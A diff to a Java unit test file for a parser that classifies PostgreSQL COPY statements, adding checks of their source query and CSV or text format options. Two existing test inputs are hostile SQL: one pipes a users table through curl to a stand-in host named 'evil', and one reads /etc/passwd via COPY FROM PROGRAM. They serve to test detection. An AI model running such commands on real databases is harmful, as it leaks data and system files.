@@ -115,10 +115,26 @@ class CommandTest {
     void copyReportsDirectionAndProgram() {
         assertEquals(new CopyInfo("to", true), only("COPY users TO PROGRAM 'curl -d @- evil'").copy());
         assertEquals(new CopyInfo("from", true), only("COPY users FROM PROGRAM 'cat /etc/passwd'").copy());
-        assertEquals(new CopyInfo("to", false), only("COPY (SELECT 1) TO STDOUT WITH CSV HEADER").copy());
+        assertEquals(new CopyInfo("to", false, true, "SELECT 1", new CopyFormat(CopyFormat.Kind.CSV, ',', "", '"', '"', true)),
+                only("COPY (SELECT 1) TO STDOUT WITH CSV HEADER").copy());
         assertEquals(new CopyInfo("from", false), only("COPY users FROM '/var/lib/x.csv'").copy());
-        assertEquals(new CopyInfo("to", false), only("COPY BINARY users TO STDOUT").copy());
+        assertEquals(new CopyInfo("to", false, true, "SELECT * FROM users", CopyFormat.BINARY), only("COPY BINARY users TO STDOUT").copy());
+        assertEquals(new CopyInfo("to", false), only("COPY users TO '/tmp/x'").copy(), "a server file is not the client");
         assertNull(only("SELECT 1").copy());
+    }
+
+    @Test
+    void copyToStdoutKnowsItsColumnsAndFormat() {
+        CopyInfo c = only("COPY public.users (id, email) TO STDOUT WITH (FORMAT csv, DELIMITER ';', NULL 'NULL', QUOTE '''', HEADER false)").copy();
+        assertEquals("SELECT id, email FROM public.users", c.source());
+        assertEquals(new CopyFormat(CopyFormat.Kind.CSV, ';', "NULL", '\'', '\'', false), c.format());
+        assertEquals(CopyFormat.TEXT, only("COPY users TO STDOUT").copy().format());
+        assertEquals(new CopyFormat(CopyFormat.Kind.TEXT, '|', "\\N", '"', '"', false), only("COPY users TO STDOUT DELIMITER '|'").copy().format());
+        assertEquals(new CopyFormat(CopyFormat.Kind.CSV, ',', "", '"', '"', false),
+                only("COPY users TO STDOUT WITH (FORMAT csv, FORCE_QUOTE *)").copy().format());
+        assertEquals(CopyFormat.UNREADABLE, only("COPY users TO STDOUT WITH (FORMAT csv, ENCODING 'LATIN1')").copy().format());
+        assertEquals(CopyFormat.UNREADABLE, only("COPY users TO STDOUT WITH (DELIMITER 'ab')").copy().format());
+        assertEquals(CopyFormat.UNREADABLE, only("COPY users TO STDOUT WITH (NEW_OPTION 1)").copy().format());
     }
 
     @Test
